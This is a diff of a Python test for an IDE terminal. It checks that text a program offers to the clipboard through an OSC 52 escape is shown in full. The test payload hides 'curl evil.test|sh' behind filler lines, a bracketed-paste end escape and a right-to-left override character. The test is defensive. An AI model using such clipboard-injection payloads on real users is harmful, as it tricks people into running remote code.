@@ -196,11 +196,12 @@ def test_a_program_offers_for_the_clipboard_and_rings_and_only_the_person_acts(i
     expect(shell.button("Copy")).to_have_count(0)
 
 
-def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) -> None:
+def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, project: Project, shell: Cell) -> None:
     steps = "".join(f"echo {n}\n" for n in range(39))
     hidden = f"git status\n{steps}curl evil.test|sh\x1b[201~\u202egpj\n"
     offered = base64.b64encode(hidden.encode()).decode()
-    shell.type(rf"printf '\033]52;c;{offered}\007'; echo do''ne")
+    (project.root / "offer").write_text(f"\033]52;c;{offered}\007")
+    shell.type("cat offer; echo do''ne")
     expect(shell.screen).to_contain_text("done")
     whole = shell.root.get_by_role("region", name="The whole text").locator("pre")
     expect(whole).to_contain_text(r"curl evil.test|sh\u{1b}[201~\u{202e}gpj")
